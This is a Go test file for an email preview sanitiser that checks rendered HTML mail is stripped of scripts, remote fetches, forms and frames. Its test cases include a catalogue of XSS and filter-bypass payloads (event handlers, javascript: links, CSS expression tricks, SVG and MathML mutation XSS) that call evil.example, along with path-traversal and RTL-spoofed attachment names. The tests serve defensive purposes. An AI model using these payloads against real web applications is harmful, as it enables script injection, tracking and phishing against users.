package preview_test

import (
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"regexp"
	"strings"
	"testing"
	"testing/iotest"
	"time"

	"github.com/PuerkitoBio/goquery"

	"holdfast/handlers/preview"
)

func read(t testing.TB, mail string) *preview.Message {
	t.Helper()
	m, err := preview.Read(strings.NewReader(strings.ReplaceAll(mail, "\n", "\r\n")))
	if err != nil {
		t.Fatalf("Read: %v", err)
	}
	return m
}

func htmlMail(body string) string {
	return "From: a@example.org\nSubject: hi\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n" + body
}

// harmless are the elements that a document may have.
var harmless = regexp.MustCompile(`^(html|head|meta|title|body|style|a|abbr|address|article|aside|b|bdi|bdo|big|blockquote|br|caption|center|cite|code|col|colgroup|` +
	`dd|del|details|dfn|div|dl|dt|em|figcaption|figure|font|footer|h[1-6]|header|hr|i|img|ins|kbd|li|main|mark|nav|ol|p|pre|q|rp|rt|ruby|s|samp|section|small|span|` +
	`strike|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|time|tr|tt|u|ul|var|wbr)$`)

// inert are the attributes that can neither run nor fetch anything.
var inert = regexp.MustCompile(`^(width|height|border|cellpadding|cellspacing|colspan|rowspan|span|start|value|size|hspace|vspace|align|valign|dir|nowrap|type|` +
	`bgcolor|color|face|alt|title|data-link|lang|style|class|src|charset|name|content)$`)

// unsafe matches what a style must not have.
var unsafe = regexp.MustCompile(`(?i)url|expression|import|behavior|@|\\|javascript`)

// checkSafe reads the document as a browser does and looks for anything that
// runs, submits, embeds or is fetched.
func checkSafe(t testing.TB, doc string) {
	t.Helper()
	parsed, err := goquery.NewDocumentFromReader(strings.NewReader(doc))
	if err != nil {
		t.Fatal(err)
	}
	if n := parsed.Find("style").Length(); n != 1 || parsed.Find("head > meta").Length() != 2 || parsed.Find("meta").Length() != 2 {
		t.Errorf("%d style elements, %d meta elements; want only our own", n, parsed.Find("meta").Length())
	}
	parsed.Find("*").Each(func(_ int, s *goquery.Selection) {
		node := s.Nodes[0]
		if !harmless.MatchString(node.Data) || node.Namespace != "" {
			t.Errorf("element <%s>", node.Data)
		}
		for _, a := range node.Attr {
			switch {
			case !inert.MatchString(a.Key):
				t.Errorf("attribute %s=%q", a.Key, a.Val)
			case a.Key == "src" && !strings.HasPrefix(a.Val, "data:image/"):
				t.Errorf("fetches %q", a.Val)
			case a.Key == "style" && unsafe.MatchString(a.Val):
				t.Errorf("style=%q", a.Val)
			}
		}
	})
}

func TestDocumentHasNothingActive(t *testing.T) {
	for name, body := range map[string]string{
		"script":           `<p>text</p><script>alert(1)</script>`,
		"script upper":     `<p>text</p><SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
		"broken script":    `<p>text</p><scr<script>ipt>alert(1)</scr</script>ipt>`,
		"handler":          `<p onclick="alert(1)" onmouseover=alert(2)>text</p><img src=x onerror=alert(1)>`,
		"javascript link":  `<p>text</p><a href="javascript:alert(1)">a</a><a href=" java&#10;script:alert(1)">b</a>`,
		"remote image":     `<p>text</p><img src="http://evil.example/1.gif"><img srcset="http://evil.example/2.gif 2x">`,
		"protocol relativ": `<p>text</p><img src="//evil.example/1.gif">`,
		"background":       `<table background="http://evil.example/b.png"><tr><td style="background:url(http://evil.example/c.png)">text</td></tr></table>`,
		"style tricks":     `<p style="color:red;background-image:url('http://evil.example/x');width:expression(alert(1));behavior:url(x)">text</p>`,
		"style escapes":    `<p style="width:\65xpression(alert(1));color:\75rl(http://evil.example)">text</p>`,
		"style element":    `<p>text</p><style>@import url(http://evil.example/x.css); body{background:url(http://evil.example/y)}</style>`,
		"link":             `<p>text</p><link rel="stylesheet" href="http://evil.example/x.css"><base href="http://evil.example/">`,
		"refresh":          `<p>text</p><meta http-equiv="refresh" content="0; url=http://evil.example/">`,
		"form":             `<p>text</p><form action="http://evil.example"><input name=q autofocus onfocus=alert(1)><button>x</button></form>`,
		"frames":           `<p>text</p><iframe src="http://evil.example" srcdoc="<script>alert(1)</script>"></iframe><object data="x"></object><embed src="x">`,
		"svg":              `<p>text</p><svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)"></a></svg>`,
		"math":             `<p>text</p><math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
		"noscript":         `<p>text</p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
		"comment":          `<p>text</p><!--[if IE]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>-->`,
		"data html":        `<p>text</p><img src="data:text/html,<script>alert(1)</script>"><img src="data:image/svg+xml,<svg onload=alert(1)>">`,
		"forged marker":    `<p>text src="cid:0" &quot; src="cid:0"</p><img src="cid:0"><img alt='" src="http://evil.example"'>`,
		"title breaks out": `<p title='"><script>alert(1)</script>'>text</p><title></title><script>x</script></title>`,
		"unclosed":         `<p>text<img src="http://evil.example/" alt="`,
		"plaintext":        `<p>text</p><plaintext><script>alert(1)`,
		"video":            `<p>text</p><video poster="http://evil.example/p.png"><source src="http://evil.example/v.mp4"></video>`,
	} {
		t.Run(name, func(t *testing.T) {
			doc := read(t, htmlMail(body)).Document()
			checkSafe(t, doc)
			if !strings.Contains(doc, "text") {
				t.Errorf("the harmless text is gone: %s", doc)
			}
		})
	}
}

func TestDocumentSaysThatPicturesAreNotLoaded(t *testing.T) {
	m := read(t, htmlMail(`<img src="https://news.example/open.gif?who=me"><p>Hello</p>`))
	m.Document()
	if got := strings.Join(m.Notes, " "); !strings.Contains(got, "not loaded") {
		t.Errorf("notes = %q, want that pictures are not loaded", got)
	}
}

func TestDocumentShowsPicturesOfTheMessage(t *testing.T) {
	m := read(t, "Subject: logo\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n"+
		`<p>See <img alt="logo" src="cid:logo%40here"><img src="cid:unknown"></p>`+
		"\n--b\nContent-Type: image/png; name=logo.png\nContent-Id: <logo@here>\nContent-Transfer-Encoding: base64\n\niVBORw0KGgo=\n--b--\n")
	doc := m.Document()
	checkSafe(t, doc)
	if want := `src="data:image/png;base64,iVBORw0KGgo="`; strings.Count(doc, want) != 1 {
		t.Errorf("document = %s, want %s once", doc, want)
	}
	if len(m.Attachments) != 1 || m.Attachments[0].Name != "logo.png" || m.Attachments[0].Size != 8 {
		t.Errorf("attachments = %+v", m.Attachments)
	}
}

func TestDocumentTellsWhereALinkLeads(t *testing.T) {
	doc := read(t, htmlMail(`<a href="https://bank.example.evil.example/login" title="https://bank.example/">bank.example</a>`)).Document()
	parsed, err := goquery.NewDocumentFromReader(strings.NewReader(doc))
	if err != nil {
		t.Fatal(err)
	}
	if got := parsed.Find("a").AttrOr("title", ""); got != "https://bank.example.evil.example/login" {
		t.Errorf("title of the link = %q, want its address", got)
	}
}

func TestTextIsEscaped(t *testing.T) {
	doc := read(t, "Subject: x\nContent-Type: text/plain\n\n<script>alert(1)</script> & </pre>").Document()
	if !strings.Contains(doc, "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;/pre&gt;") {
		t.Errorf("document = %s", doc)
	}
	checkSafe(t, doc)
}

func TestAlternativeShowsTheHTMLOnce(t *testing.T) {
	mail := "Subject: x\nMIME-Version: 1.0\nContent-Type: multipart/alternative; boundary=b\n\n--b\nContent-Type: text/plain\n\nthe plain form\n" +
		"--b\nContent-Type: text/html\n\n<p>the rich form</p>\n--b\nContent-Type: text/calendar; method=REQUEST\n\nBEGIN:VCALENDAR\n--b--\n"
	m := read(t, mail)
	doc := m.Document()
	if strings.Contains(doc, "the plain form") || !strings.Contains(doc, "the rich form") {
		t.Errorf("document = %s", doc)
	}
	if len(m.Attachments) != 1 || m.Attachments[0].Name != "Invitation" {
		t.Errorf("attachments = %+v, want the invitation", m.Attachments)
	}
}

func TestCharsets(t *testing.T) {
	for name, test := range map[string]struct{ header, body, want string }{
		"latin 1":           {"text/plain; charset=iso-8859-1", "caf\xe9", "café"},
		"windows unlabeled": {"text/plain", "\x93quoted\x94 caf\xe9", "“quoted” café"},
		"utf-8 unlabeled":   {"text/plain", "café", "café"},
		"koi8-r":            {"text/plain; charset=koi8-r", "\xd0\xd2\xc9\xd7\xc5\xd4", "привет"},
		"iso-2022-jp":       {"text/plain; charset=iso-2022-jp", "\x1b$B$3$s\x1b(B", "こん"},
		"unknown":           {"text/plain; charset=x-unheard-of", "plain \xe9", "plain é"},
		"wrong utf-8":       {"text/plain; charset=utf-8", "bad \xff byte", "bad"},
		"html meta":         {"text/html", `<meta charset="koi8-r"><p>` + "\xd0\xd2\xc9\xd7\xc5\xd4</p>", "привет"},
		"nul":               {"text/plain", "a\x00b", "a\uFFFDb"},
	} {
		t.Run(name, func(t *testing.T) {
			doc := read(t, "Subject: x\nContent-Type: "+test.header+"\n\n"+test.body).Document()
			if !strings.Contains(doc, test.want) {
				t.Errorf("document = %q, want %q in it", doc, test.want)
			}
		})
	}
}

func TestHeadersAreDecodedToOneLine(t *testing.T) {
	m := read(t, "Subject: =?iso-8859-1?Q?caf=E9?=\n\tand more\u202etxt\nFrom: =?utf-8?B?SsO8cmdlbg==?= <j@example.org>\nDate: Mon, 2 Nov 2026 10:00:00 +0000\nX-Other: no\n\nhello")
	want := []preview.Header{{Name: "Subject", Value: "café and moretxt"}, {Name: "From", Value: "Jürgen <j@example.org>"}, {Name: "Date", Value: "Mon, 2 Nov 2026 10:00:00 +0000"}}
	if fmt.Sprint(m.Headers) != fmt.Sprint(want) {
		t.Errorf("headers = %q, want %q", m.Headers, want)
	}
}

func TestAttachmentNamesAreHarmless(t *testing.T) {
	for given, want := range map[string]string{
		`"../../etc/passwd"`:                "passwd",
		`"C:\\Users\\x\\evil.exe"`:          "evil.exe",
		`"=?utf-8?Q?=C3=BCber.pdf?="`:       "über.pdf",
		"\"invoice\u202efdp.exe\"":          "invoicefdp.exe",
		`""`:                                "Attachment without a name",
		`"` + strings.Repeat("a", 90) + `"`: strings.Repeat("a", 90),
	} {
		m := read(t, "Subject: x\nContent-Type: application/pdf\nContent-Disposition: attachment; filename="+given+"\n\nx")
		if len(m.Attachments) != 1 || m.Attachments[0].Name != want {
			t.Errorf("filename=%s: attachments = %+v, want %q", given, m.Attachments, want)
		}
	}
}

func TestBrokenMessagesFallBackToText(t *testing.T) {
	for name, test := range map[string]struct{ mail, shows, note string }{
		"empty":       {"", "no text", "empty"},
		"no header":   {"just some words\nwithout any header", "just some words", "not well formed"},
		"binary":      {"\x00\x01\x02\xff\xfe", "", "not well formed"},
		"cut off":     {"Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nthe beginning", "the beginning", "not well formed"},
		"no boundary": {"Content-Type: multipart/mixed\n\nwhat is here", "", ""},
		"bad base64":  {"Content-Type: text/plain\nContent-Transfer-Encoding: base64\n\naGVsbG8gd29ybGQh!!!!not", "hello", ""},
		"From line":   {"From a@example.org Mon Nov  2 10:00:00 2026\nSubject: x\n\nthe text", "the text", ""},
	} {
		t.Run(name, func(t *testing.T) {
			m := read(t, test.mail)
			doc := m.Document()
			checkSafe(t, doc)
			if !strings.Contains(doc, test.shows) {
				t.Errorf("document = %q, want %q in it", doc, test.shows)
			}
			if notes := strings.Join(m.Notes, " "); !strings.Contains(notes, test.note) {
				t.Errorf("notes = %q, want %q", notes, test.note)
			}
		})
	}
}

func TestReadTellsFailureFromBrokenMessage(t *testing.T) {
	want := errors.New("disk gone")
	r := io.MultiReader(strings.NewReader("Subject: x\r\n\r\nhello"), iotest.ErrReader(want))
	if _, err := preview.Read(r); !errors.Is(err, want) {
		t.Errorf("Read = %v, want %v", err, want)
	}
}

func TestSizesAreBounded(t *testing.T) {
	t.Run("long text", func(t *testing.T) {
		m := read(t, "Subject: x\nContent-Type: text/plain\n\n"+strings.Repeat("word ", 1<<20))
		if n := len(m.Document()); n > 2<<20 {
			t.Errorf("document has %d bytes", n)
		}
		if len(m.Notes) == 0 {
			t.Error("no note says that it is cut")
		}
	})
	t.Run("picture used often", func(t *testing.T) {
		png := strings.Repeat("QUJD", 100<<10) // 300 KiB
		m := read(t, "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n"+strings.Repeat(`<img src="cid:a">`, 5000)+
			"\n--b\nContent-Type: image/png\nContent-Id: <a>\nContent-Transfer-Encoding: base64\n\n"+png+"\n--b--\n")
		if n := len(m.Document()); n > 40<<20 {
			t.Errorf("document has %d bytes", n)
		}
	})
	t.Run("many parts", func(t *testing.T) {
		m := read(t, "Content-Type: multipart/mixed; boundary=b\n\n"+strings.Repeat("--b\nContent-Type: text/plain\n\nx\n", 20000)+"--b--\n")
		m.Document()
		if len(m.Notes) == 0 {
			t.Error("no note says that it is cut")
		}
	})
	t.Run("deep nesting", func(t *testing.T) {
		var b strings.Builder
		for i := range 2000 {
			fmt.Fprintf(&b, "Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n", i, i)
		}
		read(t, b.String()).Document()
	})
	t.Run("deep html", func(t *testing.T) {
		start := time.Now()
		checkSafe(t, read(t, htmlMail(strings.Repeat("<div><b></b></div>", 50000)+strings.Repeat("<div>", 400)+"text")).Document())
		if took := time.Since(start); took > 20*time.Second {
			t.Errorf("took %v", took)
		}
	})
}

func TestSampleMailIsShownSafely(t *testing.T) {
	mail := os.DirFS("../../backup/m365/simulator/testdata/mail")
	shown, broken := 0, 0
	err := fs.WalkDir(mail, ".", func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(path, ".eml") {
			return err
		}
		b, err := fs.ReadFile(mail, path)
		if err != nil {
			return err
		}
		m, err := preview.Read(strings.NewReader(string(b)))
		if err != nil {
			t.Errorf("%s: %v", path, err)
			return nil
		}
		checkSafe(t, m.Document())
		if t.Failed() {
			t.Fatalf("%s is not safe", path)
		}
		shown++
		if strings.Contains(strings.Join(m.Notes, " "), "Its first part is shown") {
			broken++
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if shown < 500 || broken > 30 {
		t.Errorf("%d messages shown, %d of them raw; want at least 500, at most 30", shown, broken)
	}
}

func FuzzRead(f *testing.F) {
	mail := os.DirFS("../../backup/m365/simulator/testdata/mail")
	err := fs.WalkDir(mail, ".", func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := fs.ReadFile(mail, path)
		if len(b) < 20<<10 {
			f.Add(b)
		}
		return err
	})
	if err != nil {
		f.Fatal(err)
	}
	f.Add([]byte(htmlMail(`<a href="javascript:x" style="color:url(x)"><img src="cid:0" onerror=x>`)))
	f.Fuzz(func(t *testing.T, b []byte) {
		m, err := preview.Read(strings.NewReader(string(b)))
		if err != nil {
			t.Fatal(err)
		}
		for _, n := range m.Notes {
			if strings.Contains(n, "parser stopped") {
				t.Error(n)
			}
		}
		checkSafe(t, m.Document())
	})
}
